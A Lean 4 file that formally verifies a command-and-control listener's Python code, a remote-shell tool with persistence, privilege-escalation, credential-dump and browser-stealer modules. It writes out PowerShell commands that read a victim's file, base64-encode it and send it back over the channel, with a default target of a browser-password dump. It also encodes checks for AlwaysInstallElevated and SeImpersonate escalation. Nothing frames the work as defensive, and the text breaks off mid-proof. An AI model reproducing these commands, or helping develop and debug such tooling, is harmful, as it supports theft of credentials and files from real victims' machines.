import Mathlib

/- Verification of the C2 listener component (src/listener.py) against its
specification.  Shallow embedding: protocol byte streams are modelled as
lists of characters (every protocol marker is ASCII and the listener decodes
with errors ignored, so bytes and characters coincide on all inputs the
properties quantify over); a socket's successive recv results are a list of
chunks; the mutable session table is a state machine driven by explicit
events; printable-binary (base64) payloads are lists of byte values. -/

/-- The reply sentinel the remote shell emits after each command: the literal
`shell> ` that C2Listener.recv_output scans for (listener.py line 31). -/
def sentinel : List Char := ['s', 'h', 'e', 'l', 'l', '>', ' ']

/-- The accumulation loop of C2Listener.recv_output (listener.py lines 25-32):
append each received chunk to the buffer, stop on an empty chunk (peer
closed), or once the buffer contains the sentinel, or when the chunk list is
exhausted (deadline elapsed / read error swallowed). -/
def recvLoop : List (List Char) → List Char → List Char
  | [], acc => acc
  | chunk :: rest, acc =>
    if chunk = [] then acc
    else if sentinel <:+: acc ++ chunk then acc ++ chunk
    else recvLoop rest (acc ++ chunk)

/-- C2Listener.recv_output (listener.py lines 23-34) as a function of the
sequence of chunks the socket yields. -/
def recv_output (chunks : List (List Char)) : List Char :=
  recvLoop chunks []

/-- Python str.split with separator a newline, as used on channel output
(listener.py line 38): splits into segments, keeping empty ones, and yields
one empty segment for the empty string. -/
def splitNl : List Char → List (List Char)
  | [] => [[]]
  | c :: rest =>
    if c = '\n' then [] :: splitNl rest
    else
      match splitNl rest with
      | r :: rs => (c :: r) :: rs
      | [] => [[c]]

/-- Python newline join of a list of lines (listener.py line 44). -/
def joinNl : List (List Char) → List Char
  | [] => []
  | [l] => l
  | l :: ls => l ++ '\n' :: joinNl ls

/-- The ASCII whitespace set Python str.strip removes. -/
def pySpace (c : Char) : Bool :=
  c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\x0b' || c == '\x0c'

/-- Python str.strip: drop whitespace from both ends (listener.py line 41). -/
def pyStrip (l : List Char) : List Char :=
  ((l.dropWhile pySpace).reverse.dropWhile pySpace).reverse

/-- Python str.replace of the literal `shell> ` by the empty string
(listener.py line 41): one left-to-right pass; on a match the scan resumes
after the removed occurrence and the removed region is not rescanned. -/
def stripSentinel : List Char → List Char
  | 's' :: 'h' :: 'e' :: 'l' :: 'l' :: '>' :: ' ' :: rest => stripSentinel rest
  | c :: rest => c :: stripSentinel rest
  | [] => []

/-- One line of C2Listener.clean_output's loop body (listener.py line 41). -/
def cleanLine (l : List Char) : List Char := pyStrip (stripSentinel l)

/-- The keep condition of C2Listener.clean_output (listener.py line 42):
the stripped line is nonempty and is not a bare carriage return. -/
def keepLine (l : List Char) : Bool := !l.isEmpty && !(l == ['\r'])

/-- C2Listener.clean_output (listener.py lines 36-44). -/
def clean_output (s : List Char) : List Char :=
  joinNl (((splitNl s).map cleanLine).filter keepLine)

/-- Python str.count of the literal `0x1` (listener.py lines 256 and 268):
non-overlapping occurrences counted in one left-to-right scan. -/
def count0x1 : List Char → Nat
  | '0' :: 'x' :: '1' :: rest => count0x1 rest + 1
  | _ :: rest => count0x1 rest
  | [] => 0

/-- Python str.lower restricted to the ASCII channel text in scope. -/
def pyLower (l : List Char) : List Char := l.map Char.toLower

/-- The privilege-level classification of C2Listener.module_sysinfo
(listener.py line 206): USER when the lowered reply contains a denial
phrase (`denied` or `refus`), ADMINISTRATOR otherwise. -/
def privStatus (reply : List Char) : String :=
  if ['d','e','n','i','e','d'] <:+: pyLower reply ∨
      ['r','e','f','u','s'] <:+: pyLower reply
  then "USER" else "ADMINISTRATOR"

/-- The AlwaysInstallElevated test of C2Listener.module_privesc
(listener.py line 256): the reply contains `0x1` and its count is at
least two. -/
def module_privesc_aie (reply : List Char) : Bool :=
  decide (['0','x','1'] <:+: reply) && decide (2 ≤ count0x1 reply)

/-- C2Listener.module_autopwn's two classifications (listener.py lines
262-278) as a function of the successive recv_output results.  The first
component is the AlwaysInstallElevated test on the registry-query reply
(line 268).  The second is the SeImpersonate test: the source calls
recv_output twice inside one condition (lines 273-274), so `SeImpersonate`
is looked for in the first privilege-query reply and `Enabled` in a second,
separate reply read afterwards. -/
def module_autopwn (replies : List (List Char)) : Bool × Bool :=
  (decide (2 ≤ count0x1 (replies.getD 0 [])),
   decide (['S','e','I','m','p','e','r','s','o','n','a','t','e'] <:+: replies.getD 1 []) &&
     decide (['E','n','a','b','l','e','d'] <:+: replies.getD 2 []))

/-- Follows the spec's words for the SeImpersonate heuristic: the single
reply to the privilege query contains both the marker `SeImpersonate` and
the `Enabled` qualifier. -/
def spec_seimpersonate_exploitable (reply : List Char) : Bool :=
  decide (['S','e','I','m','p','e','r','s','o','n','a','t','e'] <:+: reply) &&
    decide (['E','n','a','b','l','e','d'] <:+: reply)

/-- Session registry state: the session counter and the set of registered
identifiers (the keys of the Python dict self.sessions; the per-session
socket/address/time records are immutable after insertion and no property
here depends on them), plus the ghost trace of every identifier ever
issued, most recent first. -/
structure C2State where
  session_counter : Nat
  sessions : Finset Nat
  issued : List Nat
  deriving DecidableEq

/-- Registry events: an accepted connection (listener.py lines 359-362,
increment the counter then register it) and a session removal
(listener.py lines 56-57, a dict delete guarded by a membership test). -/
inductive Event
  | accept
  | remove (id : Nat)
  deriving DecidableEq

/-- One registry transition. -/
def step (s : C2State) : Event → C2State
  | .accept =>
    ⟨s.session_counter + 1, insert (s.session_counter + 1) s.sessions,
      (s.session_counter + 1) :: s.issued⟩
  | .remove id => ⟨s.session_counter, s.sessions.erase id, s.issued⟩

/-- The listener starts with counter 0 and no sessions (listener.py line 11). -/
def initState : C2State := ⟨0, ∅, []⟩

/-- The registry state after a sequence of events. -/
def run (evs : List Event) : C2State := evs.foldl step initState

/-- One Command Channel operation: a send_command or a recv_output call. -/
inductive CmdIO
  | send (cmd : String)
  | recv
  deriving DecidableEq

/-- The fixed dispatch-table keys of C2Listener.execute_module
(listener.py lines 66-76). -/
def moduleNames : List String :=
  ["sysinfo", "persist", "privesc", "network", "screenshot", "autopwn",
   "dump", "stealer", "download"]

/-- C2Listener.execute_module (listener.py lines 60-81).  Module bodies
receive only the socket, never the registry, so they are abstracted by the
parameter impl giving each known module's channel I/O.  The result is the
channel I/O performed, the registry state afterwards, and the report
printed when dispatch fails. -/
def execute_module (impl : String → List CmdIO) (st : C2State) (sid : Nat)
    (module : String) : List CmdIO × C2State × String :=
  if sid ∈ st.sessions then
    if module ∈ moduleNames then (impl module, st, "")
    else ([], st, "Unknown module: " ++ module)
  else ([], st, "Session not found")

/-- The standard base64 alphabet, sextet value to character. -/
def b64Alphabet : List Char :=
  ['A','B','C','D','E','F','G','H','I','J','K','L','M','N','O','P','Q','R',
   'S','T','U','V','W','X','Y','Z','a','b','c','d','e','f','g','h','i','j',
   'k','l','m','n','o','p','q','r','s','t','u','v','w','x','y','z','0','1',
   '2','3','4','5','6','7','8','9','+','/']

/-- Sextet value to base64 character. -/
def encChar (v : Nat) : Char := b64Alphabet.getD v 'A'

/-- Base64 character back to its sextet value; none for a character outside
the alphabet. -/
def decodeChar (c : Char) : Option Nat := b64Alphabet.findIdx? (· == c)

/-- Standard base64 of a byte sequence, three bytes to four characters with
`=` padding, as the remote side's ToBase64String produces. -/
def b64encode : List Nat → List Char
  | [] => []
  | [b1] => [encChar (b1 / 4), encChar (b1 % 4 * 16), '=', '=']
  | [b1, b2] =>
    [encChar (b1 / 4), encChar (b1 % 4 * 16 + b2 / 16), encChar (b2 % 16 * 4), '=']
  | b1 :: b2 :: b3 :: rest =>
    encChar (b1 / 4) :: encChar (b1 % 4 * 16 + b2 / 16) ::
      encChar (b2 % 16 * 4 + b3 / 64) :: encChar (b3 % 64) :: b64encode rest

/-- Characters Python's base64.b64decode processes; everything else is
silently discarded before decoding. -/
def isB64Char (c : Char) : Bool := (decodeChar c).isSome || c == '='

/-- Decode base64 four characters at a time; padding is honoured only at the
end and a leftover of one to three characters is an error, matching the
incorrect-padding failure of Python's b64decode. -/
def decodeGroups : List Char → Option (List Nat)
  | [] => some []
  | c1 :: c2 :: c3 :: c4 :: rest =>
    match decodeChar c1, decodeChar c2 with
    | some v1, some v2 =>
      if c3 == '=' then
        if c4 == '=' && rest.isEmpty then some [v1 * 4 + v2 / 16] else none
      else
        match decodeChar c3 with
        | some v3 =>
          if c4 == '=' then
            if rest.isEmpty then some [v1 * 4 + v2 / 16, v2 % 16 * 16 + v3 / 4]
            else none
          else
            match decodeChar c4 with
            | some v4 =>
              match decodeGroups rest with
              | some bs =>
                some ((v1 * 4 + v2 / 16) :: (v2 % 16 * 16 + v3 / 4) ::
                  (v3 % 4 * 64 + v4) :: bs)
              | none => none
            | none => none
        | none => none
    | _, _ => none
  | _ => none

/-- Python base64.b64decode (listener.py line 133): discard characters
outside the alphabet, then decode; none models the binascii error the
source catches. -/
def b64decode (s : List Char) : Option (List Nat) :=
  decodeGroups (s.filter isB64Char)

/-- The payload-line heuristic of C2Listener.module_download_file
(listener.py lines 119-124): strip each line of the content reply and keep
it only when it is nonempty, does not contain `shell>`, and is longer than
20 characters; the kept lines concatenate into the text blob. -/
def extract_b64 (output : List Char) : List Char :=
  (((splitNl output).map pyStrip).filter
    (fun l => !l.isEmpty && !decide (['s','h','e','l','l','>'] <:+: l) &&
      decide (20 < l.length))).flatten

/-- Outcome of a download: the abort paths of listener.py lines 97-100
(marker absent), 126-129 (blob too short) and 158-159 (decode raised), or
the bytes persisted to the local artifact. -/
inductive DownloadResult
  | notFound
  | readFailed
  | decodeError
  | saved (data : List Nat) (localBase : String)
  deriving DecidableEq

/-- Step 4 of the transfer, decode and persist (listener.py lines 126-145):
abort when the blob is shorter than 10 characters, surface a decode error
when base64 decoding fails, otherwise persist the bytes under a local name
derived from the remote basename (the timestamp part of
`downloaded_<timestamp>_<basename>` is environmental and elided). -/
def decode_and_persist (b : List Char) (base : String) : DownloadResult :=
  if b.length < 10 then .readFailed
  else
    match b64decode b with
    | some data => .saved data base
    | none => .decodeError

/-- Python os-path-free basename used by the source: the remote path split
on backslashes, last component (listener.py line 136). -/
def basename (path : String) : String := (path.splitOn "\\").getLastD ""

/-- The default applied when no remote path is supplied (listener.py lines
89-90): Python falsiness makes both an absent and an empty argument take
the fixed default. -/
def resolvePath : Option String → String
  | none => "%TEMP%\\browser_passwords.txt"
  | some p => if p = "" then "%TEMP%\\browser_passwords.txt" else p

/-- A single-quote character, spelled via its code point. -/
def squote : String := String.singleton (Char.ofNat 39)

/-- The existence-check command of transfer step 1 (listener.py line 95). -/
def existsCmd (p : String) : String := "if exist \"" ++ p ++ "\" echo EXISTS"

/-- The size-probe command of transfer step 2 (listener.py line 103). -/
def sizeCmd (p : String) : String :=
  "powershell -Command \"(Get-Item " ++ squote ++ p ++ squote ++ ").Length\""

/-- The content-transfer command of transfer step 3 (listener.py line 114). -/
def contentCmd (p : String) : String :=
  "powershell -Command \"$b64=[Convert]::ToBase64String([System.IO.File]::ReadAllBytes(" ++
    squote ++ p ++ squote ++ "));Write-Output $b64\""

/-- What one run of the transfer did: the commands sent over the Command
Channel, in order (each is followed by one recv_output), and the outcome. -/
structure DlTrace where
  sends : List String
  result : DownloadResult
  deriving DecidableEq

/-- C2Listener.module_download_file (listener.py lines 83-161) as a function
of the optional explicit remote path and the successive recv_output
replies: existence check against the raw reply 0; when the marker is
absent, abort before any further exchange; otherwise probe the size (reply
1, printed only — a parse failure is non-fatal and nothing downstream uses
it), transfer the content (reply 2) and decode and persist the extracted
blob. -/
def module_download_file (remote_path : Option String)
    (replies : List (List Char)) : DlTrace :=
  let path := resolvePath remote_path
  if ['E','X','I','S','T','S'] <:+: replies.getD 0 [] then
    { sends := [existsCmd path, sizeCmd path, contentCmd path],
      result := decode_and_persist (extract_b64 (replies.getD 2 []))
        (basename path) }
  else
    { sends := [existsCmd path], result := .notFound }

/-- C2Listener.module_browser_stealer's auto-chaining (listener.py lines
180-183): when the stealer reply reports a saved file, chain into the file
transfer for the well-known path. -/
def module_browser_stealer (stealerReply : List Char)
    (dlReplies : List (List Char)) : Option DlTrace :=
  if ['S','a','v','e','d',' ','t','o',':'] <:+: stealerReply then
    some (module_download_file (some "%TEMP%\\browser_passwords.txt") dlReplies)
  else none

/-- A prefix is an infix. -/
theorem subOfPrefix {α : Type} {u l : List α} (h : u <+: l) : u <:+: l := by
  obtain ⟨t, rfl⟩ := h
  exact ⟨[], t, by simp⟩

/-- An infix survives a cons on the left. -/
theorem consSub {α : Type} {u t : List α} (c : α) (h : u <:+: t) :
    u <:+: c :: t := by
  obtain ⟨s, r, rfl⟩ := h
  exact ⟨c :: s, r, rfl⟩

/-- Reversal preserves the infix relation. -/
theorem subRev {α : Type} {u l : List α} (h : u <:+: l) :
    u.reverse <:+: l.reverse := by
  obtain ⟨s, t, rfl⟩ := h
  exact ⟨t.reverse, s.reverse, by simp⟩

/-- An infix of the middle of a three-part append is an infix of the whole. -/
theorem infixExtend {α : Type} {u m : List α} (s t : List α) (h : u <:+: m) :
    u <:+: s ++ m ++ t := by
  obtain ⟨a, b, rfl⟩ := h
  exact ⟨s ++ a, b ++ t, by simp⟩

/-- A nonempty infix of an append whose elements all avoid the left part is
an infix of the right part. -/
theorem subSplit {α : Type} {u y : List α} : ∀ {x : List α},
    u <:+: x ++ y → u ≠ [] → (∀ c ∈ u, c ∉ x) → u <:+: y := by
  intro x
  induction x with
  | nil => intro h _ _; simpa using h
  | cons a x ih =>
    intro h hne hdis
    rcases List.infix_cons_iff.mp h with hp | hi
    · obtain ⟨c, u', rfl⟩ : ∃ c u', u = c :: u' := by
        cases u with
        | nil => exact absurd rfl hne
        | cons c u' => exact ⟨c, u', rfl⟩
      obtain ⟨t, ht⟩ := hp
      have hc : c = a := by
        have := congrArg (fun l => l.head?) ht
        simpa using this
      exact absurd (hc ▸ List.mem_cons_self a x)
        (hdis c (List.mem_cons_self c u'))
    · exact ih hi hne fun c hc hx => hdis c hc (List.mem_cons_of_mem a hx)

/-- What the recv loop returns, for every accumulator: the concatenation of
some leading run of chunks, and the buffer never contained the sentinel
before the last consumed chunk was appended. -/
theorem recvLoop_chunks (chunks : List (List Char)) : ∀ acc : List Char,
    ∃ n ≤ chunks.length,
      recvLoop chunks acc = acc ++ (chunks.take n).flatten ∧
      (¬ sentinel <:+: acc →
        ∀ m < n, ¬ sentinel <:+: acc ++ (chunks.take m).flatten) := by
  induction chunks with
  | nil =>
    intro acc
    exact ⟨0, by simp, by simp [recvLoop], fun _ m hm => absurd hm (by omega)⟩
  | cons c cs ih =>
    intro acc
    by_cases hc : c = []
    · refine ⟨0, by simp, ?_, fun _ m hm => absurd hm (by omega)⟩
      simp [recvLoop, hc]
    · by_cases hs : sentinel <:+: acc ++ c
      · refine ⟨1, by simp, ?_, ?_⟩
        · simp [recvLoop, hc, hs]
        · intro hacc m hm
          cases m with
          | zero => simpa using hacc
          | succ m' => omega
      · obtain ⟨n, hn, heq, hmin⟩ := ih (acc ++ c)
        refine ⟨n + 1, by simpa using Nat.succ_le_succ hn, ?_, ?_⟩
        · simp only [recvLoop, if_neg hc, if_neg hs]
          rw [heq]
          simp [List.append_assoc]
        · intro hacc m hm
          cases m with
          | zero => simpa using hacc
          | succ m' =>
            have := hmin hs m' (by omega)
            simpa [List.append_assoc] using this

/-- C1 counterexample: a single chunk `shell> X` contains the sentinel at
byte offset 0 (it is a prefix), yet recv_output returns all eight bytes,
including the byte X originating past the sentinel's position in the
stream — the returned output exceeds the sentinel position. -/
theorem recv_output_includes_bytes_past_sentinel :
    recv_output [['s','h','e','l','l','>',' ','X']] =
      ['s','h','e','l','l','>',' ','X'] ∧
    sentinel <+: ['s','h','e','l','l','>',' ','X'] ∧
    sentinel.length < (recv_output [['s','h','e','l','l','>',' ','X']]).length := by
  decide

/-- C1 amended: when the reply stream contains the sentinel, recv_output
stops accumulating as soon as the accumulated buffer contains it — the
returned output is exactly the chunks consumed up to and including the
first chunk whose arrival completed the sentinel, and no earlier cut of
the stream at a chunk boundary contained it.  Bytes past the sentinel's
position can still be returned, but only from within that final chunk;
no later chunk is read. -/
theorem recv_output_stops_at_sentinel_chunk (chunks : List (List Char))
    (h : sentinel <:+: recv_output chunks) :
    ∃ n ≤ chunks.length,
      recv_output chunks = (chunks.take n).flatten ∧
      sentinel <:+: (chunks.take n).flatten ∧
      ∀ m < n, ¬ sentinel <:+: (chunks.take m).flatten := by
  obtain ⟨n, hn, heq, hmin⟩ := recvLoop_chunks chunks []
  have heq' : recv_output chunks = (chunks.take n).flatten := by
    simpa [recv_output] using heq
  have hnil : ¬ sentinel <:+: ([] : List Char) := by decide
  refine ⟨n, hn, heq', heq' ▸ h, fun m hm => ?_⟩
  have := hmin hnil m hm
  simpa using this

/-- C1 amended, at a concrete input: the single chunk `shell> X`. -/
theorem recv_output_stops_at_sentinel_chunk_witness :
    ∃ n ≤ [['s','h','e','l','l','>',' ','X']].length,
      recv_output [['s','h','e','l','l','>',' ','X']] =
        ([['s','h','e','l','l','>',' ','X']].take n).flatten ∧
      sentinel <:+: ([['s','h','e','l','l','>',' ','X']].take n).flatten ∧
      ∀ m < n, ¬ sentinel <:+: ([['s','h','e','l','l','>',' ','X']].take m).flatten :=
  recv_output_stops_at_sentinel_chunk [['s','h','e','l','l','>',' ','X']] (by decide)

/-- Dropping a satisfied head run twice is the same as dropping it once. -/
theorem dropWhile_self_idem {α : Type} (p : α → Bool) (l : List α) :
    (l.dropWhile p).dropWhile p = l.dropWhile p := by
  induction l with
  | nil => rfl
  | cons a l ih =>
    by_cases h : p a
    · simpa [List.dropWhile_cons, h] using ih
    · simp [List.dropWhile_cons, h]

/-- A prefix of a list with no satisfied head run has none either. -/
theorem dropWhile_eq_self_of_prefix {α : Type} {p : α → Bool} {y x : List α}
    (hx : x.dropWhile p = x) (hyx : y <+: x) : y.dropWhile p = y := by
  cases y with
  | nil => rfl
  | cons a t =>
    obtain ⟨r, hr⟩ := hyx
    have ha : p a = false := by
      by_contra hpa
      have hpa' : p a = true := by simpa using hpa
      rw [← hr, List.cons_append, List.dropWhile_cons, if_pos hpa'] at hx
      have h1 : ((t ++ r).dropWhile p).length ≤ (t ++ r).length :=
        (List.dropWhile_sublist p).length_le
      rw [hx] at h1
      simp at h1
    simp [List.dropWhile_cons, ha]

/-- The stripped line starts with no whitespace. -/
theorem pyStrip_front (l : List Char) :
    (pyStrip l).dropWhile pySpace = pyStrip l := by
  have hA : (l.dropWhile pySpace).dropWhile pySpace = l.dropWhile pySpace :=
    dropWhile_self_idem pySpace l
  have hpre : pyStrip l <+: l.dropWhile pySpace := by
    have hsuf : (pyStrip l).reverse <:+ (l.dropWhile pySpace).reverse := by
      unfold pyStrip
      rw [List.reverse_reverse]
      exact List.dropWhile_suffix pySpace
    exact List.reverse_suffix.mp hsuf
  exact dropWhile_eq_self_of_prefix hA hpre

/-- Python strip is idempotent. -/
theorem pyStrip_idem (l : List Char) : pyStrip (pyStrip l) = pyStrip l := by
  have h1 := pyStrip_front l
  calc pyStrip (pyStrip l)
      = (((pyStrip l).dropWhile pySpace).reverse.dropWhile pySpace).reverse := rfl
    _ = ((pyStrip l).reverse.dropWhile pySpace).reverse := by rw [h1]
    _ = pyStrip l := by
        unfold pyStrip
        rw [List.reverse_reverse, dropWhile_self_idem]

/-- A split is never the empty list of segments. -/
theorem splitNl_ne_nil (s : List Char) : splitNl s ≠ [] := by
  induction s with
  | nil => simp [splitNl]
  | cons c rest ih =>
    by_cases h : c = '\n'
    · simp [splitNl, h]
    · cases hr : splitNl rest with
      | nil => exact absurd hr ih
      | cons r rs => simp [splitNl, h, hr]

/-- No segment of a newline split contains a newline. -/
theorem mem_splitNl_no_nl (s : List Char) : ∀ l ∈ splitNl s, '\n' ∉ l := by
  induction s with
  | nil =>
    intro l hl
    simp [splitNl] at hl
    simp [hl]
  | cons c rest ih =>
    intro l hl
    by_cases h : c = '\n'
    · rw [h] at hl
      simp [splitNl] at hl
      rcases hl with rfl | hl
      · simp
      · exact ih l hl
    · cases hr : splitNl rest with
      | nil => exact absurd hr (splitNl_ne_nil rest)
      | cons r rs =>
        simp [splitNl, h, hr] at hl
        rcases hl with rfl | hl
        · intro hmem
          rcases List.mem_cons.mp hmem with heq | hmem'
          · exact h heq.symm
          · exact ih r (by rw [hr]; exact List.mem_cons_self r rs) hmem'
        · exact ih l (by rw [hr]; exact List.mem_cons_of_mem r hl)

/-- Splitting a newline-free line yields just that line. -/
theorem splitNl_no_nl {l : List Char} (h : '\n' ∉ l) : splitNl l = [l] := by
  induction l with
  | nil => rfl
  | cons c rest ih =>
    have hc : ¬ c = '\n' := fun hc => h (by rw [hc]; exact List.mem_cons_self _ _)
    have hrest : '\n' ∉ rest := fun hm => h (List.mem_cons_of_mem c hm)
    simp [splitNl, hc, ih hrest]

/-- Splitting after a newline-free line and an explicit newline peels off
that line. -/
theorem splitNl_append_nl {l : List Char} (t : List Char) (h : '\n' ∉ l) :
    splitNl (l ++ '\n' :: t) = l :: splitNl t := by
  induction l with
  | nil => simp [splitNl]
  | cons c rest ih =>
    have hc : ¬ c = '\n' := fun hc => h (by rw [hc]; exact List.mem_cons_self _ _)
    have hrest : '\n' ∉ rest := fun hm => h (List.mem_cons_of_mem c hm)
    have ih' := ih hrest
    cases hsp : splitNl (rest ++ '\n' :: t) with
    | nil => exact absurd hsp (splitNl_ne_nil _)
    | cons r rs =>
      rw [hsp] at ih'
      cases ih'
      simp [splitNl, hc, hsp]

/-- Splitting the newline join of nonempty, newline-free lines returns
exactly those lines. -/
theorem splitNl_joinNl : ∀ {L : List (List Char)}, L ≠ [] →
    (∀ l ∈ L, '\n' ∉ l) → splitNl (joinNl L) = L := by
  intro L
  induction L with
  | nil => intro h; exact absurd rfl h
  | cons l ls ih =>
    intro _ hnl
    cases ls with
    | nil =>
      show splitNl l = [l]
      exact splitNl_no_nl (hnl l (List.mem_cons_self _ _))
    | cons l2 ls2 =>
      have hjoin : joinNl (l :: l2 :: ls2) = l ++ '\n' :: joinNl (l2 :: ls2) := rfl
      rw [hjoin, splitNl_append_nl _ (hnl l (List.mem_cons_self _ _)),
        ih (by simp) fun x hx => hnl x (List.mem_cons_of_mem _ hx)]

/-- Removing sentinel occurrences introduces no new characters. -/
theorem mem_stripSentinel {a : Char} : ∀ {l : List Char},
    a ∈ stripSentinel l → a ∈ l := by
  intro l
  induction l using stripSentinel.induct with
  | case1 rest ih =>
    intro h
    simp only [stripSentinel] at h
    have := ih h
    simp [this]
  | case2 c rest hne ih =>
    intro h
    rw [stripSentinel.eq_2 c rest hne] at h
    rcases List.mem_cons.mp h with rfl | h'
    · exact List.mem_cons_self _ _
    · exact List.mem_cons_of_mem c (ih h')
  | case3 =>
    intro h
    simp [stripSentinel] at h

/-- Stripping introduces no new characters. -/
theorem mem_pyStrip {a : Char} {l : List Char} (h : a ∈ pyStrip l) : a ∈ l := by
  unfold pyStrip at h
  rw [List.mem_reverse] at h
  have h2 := (List.dropWhile_sublist pySpace).mem h
  rw [List.mem_reverse] at h2
  exact (List.dropWhile_sublist pySpace).mem h2

/-- A line free of the sentinel is unchanged by sentinel removal. -/
theorem stripSentinel_eq_self : ∀ {l : List Char},
    ¬ sentinel <:+: l → stripSentinel l = l := by
  intro l
  induction l using stripSentinel.induct with
  | case1 rest ih =>
    intro h
    exact absurd ⟨[], rest, rfl⟩ h
  | case2 c rest hne ih =>
    intro h
    rw [stripSentinel.eq_2 c rest hne,
      ih fun hs => h (consSub c hs)]
  | case3 => intro _; rfl

/-- An infix of a member line is an infix of the newline join. -/
theorem memSubJoinNl {u l : List Char} : ∀ {L : List (List Char)},
    l ∈ L → u <:+: l → u <:+: joinNl L := by
  intro L
  induction L with
  | nil => intro h; exact absurd h (List.not_mem_nil l)
  | cons x ls ih =>
    intro hmem hu
    cases ls with
    | nil =>
      rcases List.mem_cons.mp hmem with rfl | h'
      · exact hu
      · exact absurd h' (List.not_mem_nil l)
    | cons l2 ls2 =>
      have hjoin : joinNl (x :: l2 :: ls2) = x ++ '\n' :: joinNl (l2 :: ls2) := rfl
      rw [hjoin]
      rcases List.mem_cons.mp hmem with rfl | h'
      · obtain ⟨s, t, rfl⟩ := hu
        exact ⟨s, t ++ '\n' :: joinNl (l2 :: ls2), by simp⟩
      · obtain ⟨s, t, heq⟩ := ih h' hu
        exact ⟨x ++ '\n' :: s, t, by rw [← heq]; simp⟩

/-- C3 counterexample: on `shshell> ell> x` one normalization pass removes
the inner sentinel occurrence and thereby splices a new `shell> ` together
(the single left-to-right replace does not rescan), so a second pass
removes more — clean_output is not idempotent. -/
theorem clean_output_not_idempotent :
    clean_output (clean_output
      ['s','h','s','h','e','l','l','>',' ','e','l','l','>',' ','x']) ≠
    clean_output ['s','h','s','h','e','l','l','>',' ','e','l','l','>',' ','x'] := by
  decide

/-- C3 amended: the Output Normalizer is idempotent on every input whose
normalized output no longer contains the sentinel substring; the sole
failure mode is a first pass that splices a new sentinel occurrence
together, which the counterexample exhibits. -/
theorem clean_output_idem_of_no_sentinel (s : List Char)
    (h : ¬ sentinel <:+: clean_output s) :
    clean_output (clean_output s) = clean_output s := by
  have hco : clean_output s =
      joinNl (((splitNl s).map cleanLine).filter keepLine) := rfl
  have hnl : ∀ l ∈ ((splitNl s).map cleanLine).filter keepLine, '\n' ∉ l := by
    intro l hl hmem
    obtain ⟨orig, horig, rfl⟩ := List.mem_map.mp (List.mem_of_mem_filter hl)
    simp only [cleanLine] at hmem
    exact mem_splitNl_no_nl s orig horig (mem_stripSentinel (mem_pyStrip hmem))
  have hkeep : ∀ l ∈ ((splitNl s).map cleanLine).filter keepLine,
      keepLine l = true := fun l hl => List.of_mem_filter hl
  have hfix : ∀ l ∈ ((splitNl s).map cleanLine).filter keepLine,
      cleanLine l = l := by
    intro l hl
    have hnosent : ¬ sentinel <:+: l := by
      intro hs
      exact h (hco ▸ memSubJoinNl hl hs)
    obtain ⟨orig, horig, hmap⟩ := List.mem_map.mp (List.mem_of_mem_filter hl)
    have h1 : cleanLine l = pyStrip l := by
      simp only [cleanLine, stripSentinel_eq_self hnosent]
    have h2 : pyStrip l = l := by
      rw [← hmap]
      simp only [cleanLine]
      exact pyStrip_idem _
    rw [h1, h2]
  have hmapLc : (((splitNl s).map cleanLine).filter keepLine).map cleanLine =
      ((splitNl s).map cleanLine).filter keepLine := by
    conv_rhs => rw [← List.map_id (((splitNl s).map cleanLine).filter keepLine)]
    exact List.map_congr_left fun a ha => hfix a ha
  by_cases hnil : ((splitNl s).map cleanLine).filter keepLine = []
  · rw [hco, hnil]
    decide
  · rw [hco]
    show joinNl (((splitNl
      (joinNl (((splitNl s).map cleanLine).filter keepLine))).map
        cleanLine).filter keepLine) =
      joinNl (((splitNl s).map cleanLine).filter keepLine)
    rw [splitNl_joinNl hnil hnl, hmapLc, List.filter_eq_self.mpr hkeep]

/-- C3 amended, at a concrete input: normalizing `a`, newline, `shell> b`
leaves no sentinel behind, and a second pass changes nothing. -/
theorem clean_output_idem_witness :
    clean_output (clean_output ['a','\n','s','h','e','l','l','>',' ','b']) =
      clean_output ['a','\n','s','h','e','l','l','>',' ','b'] :=
  clean_output_idem_of_no_sentinel ['a','\n','s','h','e','l','l','>',' ','b']
    (by decide)

/-- A prefix whose characters avoid the sentinel's characters survives
sentinel removal as a prefix. -/
theorem stripSentinel_keeps_start : ∀ {l u : List Char},
    (∀ c ∈ u, c ∉ sentinel) → u <+: l → u <+: stripSentinel l := by
  intro l
  induction l using stripSentinel.induct with
  | case1 rest ih =>
    intro u hdis hp
    cases u with
    | nil => exact List.nil_prefix
    | cons a u' =>
      obtain ⟨t, ht⟩ := hp
      have ha : a = 's' := by
        have := congrArg List.head? ht
        simpa using this
      exact absurd (by rw [ha]; decide : a ∈ sentinel)
        (hdis a (List.mem_cons_self _ _))
  | case2 c rest hne ih =>
    intro u hdis hp
    rw [stripSentinel.eq_2 c rest hne]
    cases u with
    | nil => exact List.nil_prefix
    | cons a u' =>
      obtain ⟨t, ht⟩ := hp
      rw [List.cons_append] at ht
      injection ht with hh ht'
      subst hh
      obtain ⟨t', ht2⟩ :=
        ih (fun x hx => hdis x (List.mem_cons_of_mem a hx)) ⟨t, ht'⟩
      exact ⟨t', by rw [List.cons_append, ht2]⟩
  | case3 =>
    intro u hdis hp
    simpa [stripSentinel] using hp

/-- An infix whose characters avoid the sentinel's characters survives
sentinel removal. -/
theorem stripSentinel_keeps : ∀ {l u : List Char},
    (∀ c ∈ u, c ∉ sentinel) → u <:+: l → u <:+: stripSentinel l := by
  intro l
  induction l using stripSentinel.induct with
  | case1 rest ih =>
    intro u hdis hs
    by_cases hu : u = []
    · subst hu
      exact ⟨[], stripSentinel ('s' :: 'h' :: 'e' :: 'l' :: 'l' :: '>' :: ' ' :: rest),
        by simp⟩
    · have hl : ('s' :: 'h' :: 'e' :: 'l' :: 'l' :: '>' :: ' ' :: rest) =
          sentinel ++ rest := rfl
      rw [hl] at hs
      have h2 := ih hdis (subSplit hs hu hdis)
      simpa [stripSentinel] using h2
  | case2 c rest hne ih =>
    intro u hdis hs
    rcases List.infix_cons_iff.mp hs with hp | hi
    · exact subOfPrefix (stripSentinel_keeps_start hdis hp)
    · rw [stripSentinel.eq_2 c rest hne]
      exact consSub c (ih hdis hi)
  | case3 =>
    intro u hdis hs
    simpa [stripSentinel] using hs

/-- An infix free of whitespace survives stripping. -/
theorem pyStrip_keeps {u l : List Char}
    (hsp : ∀ c ∈ u, pySpace c = false) (h : u <:+: l) : u <:+: pyStrip l := by
  by_cases hu : u = []
  · subst hu
    exact ⟨[], pyStrip l, by simp⟩
  · have h1 : u <:+: l.dropWhile pySpace := by
      have hx : u <:+: l.takeWhile pySpace ++ l.dropWhile pySpace := by
        rw [List.takeWhile_append_dropWhile]
        exact h
      refine subSplit hx hu ?_
      intro c hc hmem
      have hT := List.mem_takeWhile_imp hmem
